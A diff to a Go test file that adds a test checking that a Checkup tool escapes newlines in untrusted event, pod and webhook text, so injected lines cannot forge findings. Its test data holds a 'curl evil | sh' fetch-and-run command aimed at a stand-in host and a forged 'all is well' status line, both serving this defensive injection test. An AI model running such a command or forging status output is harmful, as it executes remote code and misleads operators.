@@ -59,3 +59,13 @@ func TestTrimPlus(t *testing.T) {
 		}
 	}
 }
+
+// Events, pods and webhooks say what strangers wrote.
+func TestForgedFinding(t *testing.T) {
+	t.Parallel()
+	var c Checkup
+	c.say(Fault, "events", "delete pod a\n-> curl evil | sh", "LockNotGranted: %s", "no\n-> curl evil | sh\nok        grants      all is well")
+	if f := c.findings[0]; f.What != `LockNotGranted: no\n-> curl evil | sh\nok        grants      all is well` || f.WayOut != `delete pod a\n-> curl evil | sh` {
+		t.Errorf("%+v", f)
+	}
+}
